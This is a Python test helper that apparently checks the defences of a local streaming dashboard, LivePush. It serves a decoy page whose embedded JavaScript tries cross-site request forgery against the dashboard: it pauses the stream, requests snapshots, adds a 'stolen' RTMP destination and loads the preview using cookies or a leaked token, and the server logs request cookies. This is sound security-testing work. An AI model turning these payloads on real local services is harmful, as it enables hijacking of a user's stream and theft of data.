#!/usr/bin/env python3
"""Another local web server (any user's, on another port of 127.0.0.1) whose page attacks
LivePush's dashboard from the same browser (issue 30, attacks 2 and 3). Standard library only.

  hostile_page.py PORT_FILE LOG_FILE

Serves on 127.0.0.1 at a free port (written to PORT_FILE):
  /attack.html?dash=PORT&token=T&snapshot=PATH   a page that, in the browser that has the dashboard
      open, tries to steer it: a no-cors POST with only what the browser adds by itself (cookies),
      then with the token (as if it had leaked) in the query and in a header, reads the status,
      asks for a snapshot and a new destination, loads the preview; what each did is in
      window.attack, and window.attackDone is set at the end.
Every request's path and Cookie header go to LOG_FILE as one JSON line.
"""
import http.server
import json
import sys

PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>an innocent page</title></head><body>
<p>Nothing to see here.</p>
<script>
const q = new URLSearchParams(location.search);
const dash = 'http://127.0.0.1:' + q.get('dash');
const token = q.get('token');
const attack = {};
async function attempt(name, url, options) {
  try {
    const response = await fetch(url, options);
    let body = '';
    try { body = await response.text(); } catch (e) {}
    attack[name] = 'status ' + response.status + ' type ' + response.type + ' ' + body.slice(0, 200);
  } catch (error) {
    attack[name] = 'error ' + error;
  }
}
(async () => {
  const control = dash + '/api/control?command=';
  await attempt('cookiePause', control + 'pause', { method: 'POST', mode: 'no-cors', credentials: 'include' });
  await attempt('queryTokenPause', control + 'pause&token=' + token, { method: 'POST', mode: 'no-cors' });
  await attempt('headerTokenPause', control + 'pause', { method: 'POST', headers: { 'X-LivePush-Token': token } });
  await attempt('readStatus', dash + '/api/status?token=' + token, { credentials: 'include' });
  await attempt('snapshot', control + 'snapshot&args=' + encodeURIComponent(q.get('snapshot')) + '&token=' + token,
                { method: 'POST', mode: 'no-cors', credentials: 'include' });
  await attempt('add', control + 'add&args=' + encodeURIComponent('rtmp://127.0.0.1:9/live/stolen') + '&token=' + token,
                { method: 'POST', mode: 'no-cors', credentials: 'include' });
  attack.preview = await new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve('loaded');
    image.onerror = () => resolve('refused');
    image.src = dash + '/preview.jpg?token=' + token;
  });
  window.attack = attack;
  window.attackDone = true;
})();
</script></body></html>
"""


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[2], "a") as log:
            log.write(json.dumps({"path": self.path, "cookie": self.headers.get("Cookie")}) + "\n")
        body = PAGE.encode() if self.path.startswith("/attack.html") else b"nothing"
        self.send_response(200 if self.path.startswith("/attack.html") else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def main():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    with open(sys.argv[1] + ".tmp", "w") as port_file:
        port_file.write(str(server.server_address[1]))
    import os
    os.rename(sys.argv[1] + ".tmp", sys.argv[1])
    server.serve_forever()


if __name__ == "__main__":
    main()
